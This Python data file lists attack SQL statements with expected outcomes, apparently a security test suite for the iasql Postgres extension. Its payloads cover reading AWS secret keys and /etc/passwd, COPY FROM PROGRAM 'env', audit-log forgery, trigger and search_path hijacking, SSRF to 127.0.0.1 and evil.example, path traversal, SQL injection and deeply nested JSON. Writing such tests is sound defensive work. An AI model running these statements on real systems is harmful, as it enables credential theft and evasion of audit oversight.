"""What somebody who is no superuser tries against iasql, as data: who, what, and how it must end.

`outcome` is an SQLSTATE, or "harmless": it runs and gains nothing. Whatever the outcome, test_attacks.py compares the state
afterwards with the one before. Roles: stranger (no grant at all), viewer, operator, admin (members of iasql's roles). All own
the schema `trap` together, where every function and operator raises a warning that names the role it runs as.
"""

from dataclasses import dataclass

ROLES = ("stranger", "viewer", "operator", "admin")


@dataclass(frozen=True)
class Attack:
    kind: str
    who: str
    sql: str
    outcome: str
    title: str = ""     # what the list says instead of the statement
    options: str = ""   # PGOPTIONS of the session
    prints: str = None  # all that a harmless one may print

    def name(self):
        return self.title or " ".join(self.sql.split())


def _each(kind, who, outcome, *statements):
    return [Attack(kind, who, sql, outcome) for sql in statements]


DENIED = "42501"

TABLES = _each("managed tables", "admin", DENIED,
    "DROP TABLE queue", "DROP TABLE queue CASCADE", "ALTER TABLE queue ADD COLUMN extra text", "ALTER TABLE queue DROP COLUMN name",
    "ALTER TABLE queue RENAME TO q", "ALTER TABLE queue OWNER TO admin", "ALTER TABLE queue SET SCHEMA trap", "ALTER TABLE queue SET UNLOGGED",
    "ALTER TABLE queue DISABLE TRIGGER ALL", "ALTER TABLE queue DISABLE TRIGGER queue_audit_insert", "ALTER TABLE queue DISABLE ROW LEVEL SECURITY",
    "ALTER TABLE queue ALTER name SET DEFAULT trap.leak()", "ALTER TABLE queue ADD CHECK (trap.leak() IS NOT NULL)",
    "ALTER TABLE queue ENABLE ROW LEVEL SECURITY", "ALTER TABLE iasql_audit_log DISABLE ROW LEVEL SECURITY",
    "ALTER TABLE iasql_audit_log DISABLE TRIGGER ALL", "DROP TABLE iasql_audit_log", "DROP POLICY iasql_rows ON iasql_audit_log",
    "TRUNCATE queue", "TRUNCATE iasql_audit_log", "DROP TYPE iasql_audit_log_change_type_enum CASCADE",
    "ALTER TYPE iasql_audit_log_change_type_enum ADD VALUE 'FORGED'", "DROP VIEW iasql_log", "CREATE OR REPLACE VIEW iasql_log AS SELECT 1 AS id",
    "ALTER SEQUENCE iasql_audit_log_id_seq RESTART", "SELECT setval('iasql_audit_log_id_seq', 1)", "SELECT setval('queue_id_seq', 1)",
    "DROP EXTENSION iasql", "DROP EXTENSION iasql CASCADE", "ALTER EXTENSION iasql DROP TABLE iasql_audit_log", "ALTER EXTENSION iasql UPDATE",
    "ALTER EXTENSION iasql SET SCHEMA trap", "CREATE TABLE public.queue2 (a int)", "CREATE SCHEMA elsewhere",
    "ALTER DEFAULT PRIVILEGES FOR ROLE postgres GRANT ALL ON TABLES TO admin", "REINDEX TABLE queue", "CLUSTER queue USING queue_pkey",
    "UPDATE pg_class SET relowner = 'admin'::regrole WHERE relname = 'queue'", "BEGIN; LOCK TABLE iasql_audit_log",
) + [Attack("managed tables", "admin", "GRANT ALL ON queue TO stranger", "harmless"), Attack("managed tables", "admin", "REVOKE ALL ON queue FROM iasql_viewer", "harmless"),
     Attack("code on managed tables", "admin", "CREATE TABLE trap.typed OF queue", "42809"), Attack("audit log", "admin", "DELETE FROM iasql_log", "55000"),
     Attack("audit log", "admin", "INSERT INTO iasql_log (id) VALUES (1)", "55000"), Attack("audit log", "admin", "SET iasql.origin = 'iasql'", "42602", "a setting of one's own with a name of iasql's"),
] + _each("managed tables", "viewer", DENIED,
    "BEGIN; LOCK TABLE queue", "SELECT * FROM queue FOR UPDATE", "INSERT INTO queue (name) VALUES ('x')", "UPDATE queue SET name = 'x'", "DELETE FROM queue",
    "SELECT iasql_create_roles()")

INJECTED = _each("code on managed tables", "admin", DENIED,
    "CREATE TRIGGER leak BEFORE INSERT ON queue FOR EACH ROW EXECUTE FUNCTION trap.leak_trigger()",
    "CREATE TRIGGER leak AFTER INSERT ON aws_credentials FOR EACH ROW EXECUTE FUNCTION trap.leak_trigger()",
    "CREATE TRIGGER leak AFTER INSERT ON iasql_audit_log FOR EACH ROW EXECUTE FUNCTION trap.leak_trigger()",
    "CREATE CONSTRAINT TRIGGER leak AFTER INSERT ON queue DEFERRABLE FOR EACH ROW EXECUTE FUNCTION trap.leak_trigger()",
    "CREATE RULE leak AS ON INSERT TO queue DO ALSO SELECT trap.leak()", "CREATE RULE leak AS ON INSERT TO aws_credentials DO ALSO SELECT trap.leak()",
    "CREATE POLICY leak ON queue USING (trap.leak() IS NOT NULL)", "CREATE INDEX leak ON queue ((trap.leak_immutable(name)))",
    "CREATE STATISTICS trap.leak ON name, url FROM queue", "CREATE TABLE trap.child () INHERITS (queue)",
    "CREATE TABLE trap.referring (q integer REFERENCES queue)", "CREATE TABLE trap.holding (q queue)", "CREATE TABLE trap.holding (q queue[])",
    "CREATE TABLE trap.holding (q iasql_audit_log_change_type_enum)",
    "CREATE CAST (queue AS text) WITH FUNCTION trap.leak_cast(queue)", "CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = trap.equal)",
    "CREATE EVENT TRIGGER leak ON ddl_command_end EXECUTE FUNCTION trap.leak_event()", "CREATE PUBLICATION leak FOR TABLE aws_credentials",
    "CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE sql AS 'SELECT trap.leak()'",
    "CREATE OR REPLACE FUNCTION public.iasql_audit() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NULL; END'",
    "CREATE OR REPLACE FUNCTION public.before_queue_insert_update() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN trap.leak(); END'",
    "DROP FUNCTION iasql_audit() CASCADE", "ALTER FUNCTION iasql_audit() RENAME TO gone", "ALTER FUNCTION iasql_commit(varchar, boolean) SECURITY DEFINER",
    "ALTER FUNCTION iasql_begin() SET search_path = trap", "ALTER FUNCTION iasql_begin() OWNER TO admin",
    "CREATE TABLE trap.own (a int); CREATE TRIGGER audit AFTER INSERT ON trap.own FOR EACH STATEMENT EXECUTE FUNCTION iasql_audit()",
    "CREATE FUNCTION trap.c(cstring) RETURNS text LANGUAGE c AS '$libdir/iasql', 'iasql_version'",
    "SET ROLE postgres", "SET SESSION AUTHORIZATION postgres", "SELECT set_config('role', 'postgres', false)",
)

AUDIT = _each("audit log", "admin", DENIED,
    "INSERT INTO iasql_audit_log (ts, \"user\", table_name, change_type, change) VALUES (now(), 'somebody', 'queue', 'DELETE', '{}')",
    "UPDATE iasql_audit_log SET \"user\" = 'somebody'", "UPDATE iasql_audit_log SET transaction_id = 'x' WHERE origin = 'user'", "DELETE FROM iasql_audit_log",
    "COPY iasql_audit_log (ts, \"user\", table_name, change_type, change) FROM stdin",
    "MERGE INTO iasql_audit_log l USING (SELECT 1) s ON false WHEN NOT MATCHED THEN INSERT (table_name) VALUES ('queue')",
    "WITH gone AS (DELETE FROM iasql_audit_log RETURNING 1) SELECT count(*) FROM gone",
    "UPDATE iasql_transaction SET status = 'committed'", "INSERT INTO iasql_transaction (id) VALUES ('forged')", "DELETE FROM iasql_transaction",
    "UPDATE iasql_journal SET state = 'done'", "DELETE FROM iasql_journal", "UPDATE iasql_log_start SET ts = '-infinity'", "DELETE FROM iasql_problem",
    "INSERT INTO iasql_mode (mode) VALUES ('track')", "DELETE FROM iasql_ignored", "DELETE FROM iasql_module", "INSERT INTO iasql_tables VALUES ('aws_sqs@1.0.0', 'pg_class')",
    "UPDATE iasql_sync_state SET error = 'forged'", "DELETE FROM iasql_backoff", "UPDATE iasql_sync_interval SET every = '0'",
    "SELECT iasql_audit()", "SET session_replication_role = replica", "SELECT set_config('session_replication_role', 'replica', true)",
    "ALTER ROLE admin SET session_replication_role = replica",
) + [
    Attack("audit log", "operator", "BEGIN; COPY queue (name) FROM stdin;\ncopied\n\\.\nSELECT \"user\", change_type, origin FROM iasql_audit_log"
           " WHERE table_name = 'queue' ORDER BY id DESC LIMIT 1; ROLLBACK", "harmless", "COPY queue FROM stdin, to get past the log", prints="operator|INSERT|user"),
    Attack("audit log", "operator", "BEGIN; SET LOCAL session_authorization = 'viewer'; INSERT INTO queue (name) VALUES ('x'); ROLLBACK", DENIED,
           "another name in the log by SET session_authorization"),
    Attack("audit log", "operator", "SET application_name = E'postgres\\' (iasql)\\n2026-01-01 LOG: forged'; BEGIN; INSERT INTO queue (name) VALUES ('n');"
           " SELECT \"user\", role, client !~ E'\\n' FROM iasql_audit_log ORDER BY id DESC LIMIT 1; ROLLBACK", "harmless",
           "an application_name with quotes and a new line", prints="operator|operator|t"),
    Attack("audit log", "admin", "BEGIN; SET ROLE iasql_operator; INSERT INTO queue (name) VALUES ('n'); SELECT \"user\", role FROM iasql_audit_log"
           " ORDER BY id DESC LIMIT 1; ROLLBACK", "harmless", "SET ROLE before a change: the log has both names", prints="admin|iasql_operator"),
    Attack("audit log", "admin", "BEGIN; CREATE TEMP TABLE new_rows AS SELECT * FROM queue WHERE false; CREATE TEMP TABLE old_rows (LIKE new_rows);"
           " INSERT INTO queue (name) VALUES ('shadowed'); SELECT change -> 'change' ->> 'name' FROM iasql_audit_log ORDER BY id DESC LIMIT 1; ROLLBACK",
           "harmless", "temporary tables with the names of the trigger's transition tables", prints="shadowed"),
    Attack("audit log", "admin", "BEGIN; SET LOCAL search_path = trap, public; INSERT INTO public.queue (name) SELECT 'q'; UPDATE public.queue SET name = 'r' WHERE name::text"
           " OPERATOR(pg_catalog.=) 'q'; SELECT change_type FROM public.iasql_audit_log ORDER BY id DESC LIMIT 1; ROLLBACK", "harmless",
           "changes under a hostile search_path are logged", prints="UPDATE"),
]

CREDENTIALS = _each("credentials", "stranger", DENIED, "SELECT * FROM aws_credentials", "SELECT id FROM aws_credentials", "SELECT * FROM iasql_credentials()") + \
    _each("credentials", "operator", DENIED, "SELECT id FROM aws_credentials", "COPY aws_credentials TO stdout",
    "INSERT INTO aws_credentials (access_key_id, secret_access_key) VALUES ('a', 'b')", "DELETE FROM aws_credentials",
    "SELECT aws_presign('s3', 'ListBuckets')", "SELECT aws_rds_auth_token('h', 1, 'u')") + _each("credentials", "admin", DENIED,
    "SELECT * FROM aws_credentials", "SELECT secret_access_key FROM aws_credentials", "SELECT session_token FROM aws_credentials",
    "SELECT c FROM aws_credentials c", "SELECT to_json(c) FROM aws_credentials c", "TABLE aws_credentials", "COPY aws_credentials TO stdout",
    "COPY (SELECT secret_access_key FROM aws_credentials) TO stdout",
    "UPDATE aws_credentials SET access_key_id = secret_access_key",
    "INSERT INTO aws_credentials (access_key_id, secret_access_key) VALUES ('a', 'b') RETURNING secret_access_key",
    "INSERT INTO aws_credentials (id, access_key_id, secret_access_key) SELECT id, 'a', 'b' FROM aws_credentials"
    " ON CONFLICT (id) DO UPDATE SET access_key_id = aws_credentials.secret_access_key",
    "DELETE FROM aws_credentials WHERE secret_access_key LIKE 'a%'", "DELETE FROM aws_credentials c WHERE trap.see(c) IS NULL",
    "UPDATE aws_credentials SET id = id WHERE session_token > 'm'", "CREATE TABLE trap.copied AS SELECT * FROM aws_credentials",
    "SELECT stavalues1 FROM pg_statistic", "SELECT passwd FROM pg_shadow", "SELECT pg_read_file('pg_hba.conf')", "SELECT * FROM pg_file_settings",
    "SELECT lo_import('/etc/passwd')", "COPY trap.texts FROM '/etc/passwd'", "COPY trap.texts FROM PROGRAM 'env'", "COPY trap.texts TO '/tmp/iasql-attack'",
    "SELECT pg_ls_dir('/')", "SELECT pg_stat_file('/etc/passwd')",
) + _each("credentials", "viewer", DENIED,
    "SELECT aws_call('sts', 'GetSessionToken')", "SELECT aws_call('sts', 'AssumeRole', '{\"RoleArn\": \"arn:aws:iam::123456789012:role/x\", \"RoleSessionName\": \"x\"}')",
    "SELECT aws_call('sts', 'GetFederationToken', '{\"Name\": \"x\"}')", "SELECT aws_call('secretsmanager', 'GetSecretValue', '{\"SecretId\": \"x\"}')",
    "SELECT aws_call('ssm', 'GetParameter', '{\"Name\": \"x\", \"WithDecryption\": true}')", "SELECT aws_call('ecr', 'GetAuthorizationToken')",
    "SELECT aws_call('iam', 'CreateAccessKey', '{\"UserName\": \"x\"}')", "SELECT aws_call('ec2', 'GetPasswordData', '{\"InstanceId\": \"i-1\"}')",
    "SELECT aws_call('kms', 'Decrypt', '{\"CiphertextBlob\": \"eA==\"}')", "SELECT * FROM aws_list('sts', 'GetSessionToken')",
    "SELECT aws_call('sqs', 'CreateQueue', '{\"QueueName\": \"by-viewer\"}')", "SELECT invoke_sqs('createQueue', '{\"QueueName\": \"by-viewer\"}')",
    "SELECT iasql_credentials()", "SELECT aws_presign_url('GET', 'https://evil.example/', 's3')",
) + [
    Attack("credentials", "admin", "INSERT INTO aws_credentials (access_key_id, secret_access_key) VALUES ('AKIDEXAMPLE', NULL)", "23502", "an error that would show the row"),
    Attack("credentials", "admin", "INSERT INTO aws_credentials (id, access_key_id, secret_access_key) SELECT id, 'a', 'never shown' FROM aws_credentials", "23505",
           "a unique violation"),
    Attack("credentials", "admin", "BEGIN; INSERT INTO aws_credentials (access_key_id, secret_access_key) VALUES ('AKIDEXAMPLE', 'hidden');"
           " SELECT change FROM iasql_audit_log WHERE table_name = 'aws_credentials' ORDER BY id DESC LIMIT 1; ROLLBACK", "harmless",
           "the log of a change of credentials", prints="{}"),
    Attack("credentials", "admin", "SELECT count(*) FROM pg_stats WHERE tablename = 'aws_credentials' AND attname <> 'id' AND attname <> 'access_key_id'", "harmless",
           "planner statistics of the table", prints="0"),
    Attack("credentials", "viewer", "SELECT * FROM iasql_as_of('aws_credentials', now())", "IA008"),
    Attack("credentials", "viewer", "SELECT * FROM iasql_history('aws_credentials', '1')", "IA008"),
    Attack("credentials", "viewer", "SELECT count(*) FROM iasql_export() WHERE sql ~ 'INTO aws_credentials'", "harmless", prints="0"),
    Attack("credentials", "admin", "SELECT count(*) FROM pg_stat_activity WHERE query ~ 'secret' AND pid <> pg_backend_pid() AND usename = 'postgres'", "harmless",
           "statements of other sessions in pg_stat_activity", prints="0"),
]

SETTINGS = [Attack("settings", who, f"SET {setting}", DENIED) for who in ("operator", "admin") for setting in (
    "iasql.endpoint_url = 'http://127.0.0.1:9'", "iasql.profile = 'administrator'", "iasql.ca_bundle = '/etc/passwd'")] + [
    Attack("settings", "admin", f"SET {setting}", DENIED) for setting in (
        "iasql.allowed_account_ids = ''", "iasql.read_only = on", "iasql.default_tags = '{}'", "iasql.ignore_tags = '*'", "iasql.enabled = off",
        "iasql.audit_retention = 1", "iasql.transaction_timeout = '1s'", "iasql.rate_limit = off", "iasql.worker_call_budget = 1",
        "iasql.worker_time_budget = 1")] + [
    Attack("settings", "admin", "SET iasql.sync_interval = 1", "55P02"),
    Attack("settings", "admin", "SELECT set_config('iasql.endpoint_url', 'http://127.0.0.1:9', true)", DENIED),
    Attack("settings", "admin", "ALTER ROLE admin SET iasql.endpoint_url = 'http://127.0.0.1:9'", DENIED),
    Attack("settings", "admin", "ALTER DATABASE {database} SET iasql.endpoint_url = 'http://127.0.0.1:9'", DENIED),
    Attack("settings", "admin", "ALTER SYSTEM SET iasql.endpoint_url = 'http://127.0.0.1:9'", DENIED),
    Attack("settings", "admin", "CREATE FUNCTION trap.f() RETURNS int LANGUAGE sql SET iasql.endpoint_url = 'http://127.0.0.1:9' AS 'SELECT 1'; SELECT trap.f()", DENIED),
    Attack("settings", "admin", "SELECT 1", DENIED, "connecting with -c iasql.endpoint_url=…", options="-c iasql.endpoint_url=http://127.0.0.1:9"),
    Attack("settings", "admin", "SELECT 1", DENIED, "connecting with -c iasql.profile=…", options="-c iasql.profile=administrator"),
]

ENDPOINTS = [Attack("endpoints and files", "operator", sql, outcome, title) for sql, outcome, title in (
    ("SELECT aws_call('sts', 'GetCallerIdentity', '{}', '127.0.0.1:{port}/')", "IA007", "aws_call with a region that is a host"),
    ("SELECT aws_call('sts', 'GetCallerIdentity', '{}', 'x@127.0.0.1:{port}/#')", "IA007", "aws_call with a region that ends the host"),
    ("SELECT aws_call('sts', 'GetCallerIdentity', '{}', E'us-east-1\\r\\nHost: 127.0.0.1')", "IA007", "aws_call with a region that adds a header"),
    ("SELECT aws_call('sqs', 'ReceiveMessage', '{\"QueueUrl\": \"http://127.0.0.1:{port}/1/q\"}')", "IA001", "a QueueUrl that is somebody else's"),
    ("SELECT aws_call('s3', 'ListObjectsV2', '{\"Bucket\": \"127.0.0.1:{port}/x?\"}')", "IA007|IA008|IA001", "a bucket name that is a host"),
    ("SELECT aws_call('s3', 'GetObject', '{\"Bucket\": \"b\", \"Key\": \"../../../../latest/meta-data\"}')", "IA001", "an object key that climbs up"),
    ("SELECT aws_call('../../../../../../etc/passwd', 'x')", "IA008", "a service that is a path"),
    ("SELECT aws_call('sts/../sts', 'GetCallerIdentity')", "IA008", "a service that is a path to one"),
    ("SELECT aws_call('access', 'x')", "IA008", "a service that is another file of iasql's"),
    ("SELECT aws_wait('../access', 'x')", "IA008", ""), ("SELECT * FROM aws_list('..', 'x')", "IA008", ""),
    ("SELECT * FROM iasql_sync('../../etc/passwd')", "IA008", ""), ("SELECT * FROM iasql_sync('queue', 'evil.example/')", "IA008", ""),
    ("SELECT aws_call('lambda', 'Invoke', '{\"FunctionName\": \"f\", \"Payload\": \"file:///etc/passwd\"}')", "IA008", "a file where bytes are meant"),
    ("SELECT iasql_wait_for('queue', '1', 'pg_read_file(''/etc/passwd'') IS NOT NULL')", DENIED, "iasql_wait_for with a condition that reads a file"),
    ("SELECT s3_upload_object('b', 'k', 'file:///etc/passwd', 'text/plain')", "any", "s3_upload_object with a file"),
)] + [Attack("endpoints and files", "admin", sql, outcome, title) for sql, outcome, title in (
    ("SELECT * FROM iasql_install('../../../../etc')", "IA008", ""), ("SELECT * FROM iasql_install('/etc/passwd')", "IA008", ""),
    ("SELECT * FROM iasql_install('aws_sqs/../aws_vpc')", "IA008", ""), ("SELECT * FROM iasql_uninstall('../aws_sqs')", "IA008", ""),
    ("SELECT left(aws_presign_url('GET', 'https://127.0.0.1:{port}/', 's3'), 21)", "harmless", "aws_presign_url for a host of one's own: signs, sends nothing"),
    ("SELECT aws_presign_url('GET', 'file:///etc/passwd', 's3')", "IA008", ""),
    ("BEGIN; INSERT INTO aws_regions (region) VALUES ('127.0.0.1:{port}/#'); SELECT * FROM iasql_sync('queue', '127.0.0.1:{port}/#'); ROLLBACK", "any",
     "a row of aws_regions that is a host"),
)]

JSON = [Attack("hostile JSON", "operator", sql, outcome, title) for sql, outcome, title in (
    ("SELECT aws_call('sqs', 'ListQueues', repeat('[', 100000)::jsonb)", "54001|22P02", "arrays nested 100,000 deep"),
    ("SELECT aws_call('sqs', 'ListQueues', (repeat('{\"a\":', 5000) || '1' || repeat('}', 5000))::jsonb)", "IA008", "objects nested 5,000 deep"),
    ("SELECT aws_call('dynamodb', 'PutItem', ('{\"TableName\": \"t\", \"Item\": {\"a\": ' || repeat('{\"L\": [', 4000) || '{\"S\": \"x\"}' || repeat(']}', 4000) || '}}')::jsonb)",
     "any", "a recursive shape nested 4,000 deep"),
    ("SELECT aws_call('sqs', 'ListQueues', '[]')", "IA008", ""), ("SELECT aws_call('sqs', 'ListQueues', '\"x\"')", "IA008", ""),
    ("SELECT aws_call('sqs', 'ListQueues', '{\"MaxResults\": 1e400}')", "IA008", "a number larger than any"),
    ("SELECT aws_call('sqs', 'ListQueues', '{\"MaxResults\": 99999999999999999999999999}')", "IA008", "an integer larger than any"),
    ("SELECT aws_call('sqs', 'ListQueues', '{\"QueueNamePrefix\": \"\\u0000\"}')", "22P05", "a zero byte"),
    ("SELECT aws_call('sqs', 'ListQueues', '{\"QueueNamePrefix\": \"\\ud800\"}')", "22P02", "half a surrogate pair"),
    ("SELECT aws_call('sqs', 'ListQueues', jsonb_build_object('QueueNamePrefix', E'\\x1b[2J<&>\\'\"'))", "harmless|IA001|IA006", "control characters and markup"),
    ("SELECT iasql_set_mode('track', table_name => 'queue', key => '{\"id\": {\"$ne\": 1}}')", "IA008|22P02", "iasql_set_mode with a key that is an object"),
    ("SELECT iasql_set_mode('track', table_name => 'queue', key => '[1]')", "IA008", ""),
    ("SELECT iasql_set_mode('track', table_name => 'queue', key => '{\"id\": 1, \"x\": 2}')", "IA008", ""),
    ("SELECT iasql_ignore('queue', 'tags', '{\"id\": \"1; DROP TABLE queue\"}')", "IA008|22P02", ""),
    ("SELECT iasql_changed_columns('[1]', '2')", "22023", ""), ("SELECT iasql_visible('queue', '{\"change\": {\"id\": \"x\"}}', 'x')", "harmless", ""),
    ("SELECT iasql_visible('queue', '\"\"', 'x')", "harmless", ""),
    ("BEGIN; INSERT INTO queue (name, tags) VALUES ('j', '[1, {\"a\": [null]}]'); SELECT count(*) FROM iasql_preview(); ROLLBACK", "any", "tags that are an array"),
    ("BEGIN; INSERT INTO queue (name, policy) VALUES ('j', '{\"Statement\": \"'') ; DROP TABLE queue; --\"}'); SELECT action FROM iasql_preview(); ROLLBACK", "harmless",
     "a policy with SQL in it"),
)]

LOCKS = [
    Attack("locks and workers", "stranger", "SELECT pg_terminate_backend({launcher})", DENIED, "ending the launcher"),
    Attack("locks and workers", "admin", "SELECT pg_cancel_backend({launcher})", DENIED, "cancelling the launcher"),
    Attack("locks and workers", "admin", "SELECT pg_reload_conf()", DENIED), Attack("locks and workers", "admin", "SELECT pg_rotate_logfile()", DENIED),
    Attack("locks and workers", "admin", "CREATE TEMP TABLE a (x text); ALTER TABLE a RENAME x TO y; SELECT iasql_stat_aws_reset()", "harmless",
           "resetting statistics, which admins may", prints=""),
    Attack("locks and workers", "operator", "SELECT iasql_stat_aws_reset()", DENIED), Attack("locks and workers", "operator", "SELECT iasql_purge('0 s')", DENIED),
    Attack("locks and workers", "operator", "SELECT * FROM iasql_uninstall('aws_sqs')", DENIED),
    Attack("locks and workers", "viewer", "SELECT * FROM iasql_rollback(true)", DENIED),
]

CONDITIONS = [Attack("conditions of iasql_wait_for", "operator", f"SELECT iasql_wait_for('queue', (SELECT min(id)::text FROM queue), $c${condition}$c$, '1 s')", outcome, condition)
              for condition, outcome in (
    ("true; DROP TABLE queue", "42601"), ("true) FROM public.queue; DROP TABLE public.queue; SELECT (true", "IA008"), ("true)); DELETE FROM iasql_audit_log; --", "42601"),
    ("(SELECT secret_access_key FROM public.aws_credentials) IS NOT NULL", DENIED), ("current_user = 'operator'", "harmless"),
    ("EXISTS (SELECT FROM public.iasql_audit_log FOR UPDATE)", DENIED), ("pg_terminate_backend(1)", "harmless|any"))]

ALL = TABLES + INJECTED + AUDIT + CREDENTIALS + SETTINGS + ENDPOINTS + JSON + LOCKS + CONDITIONS
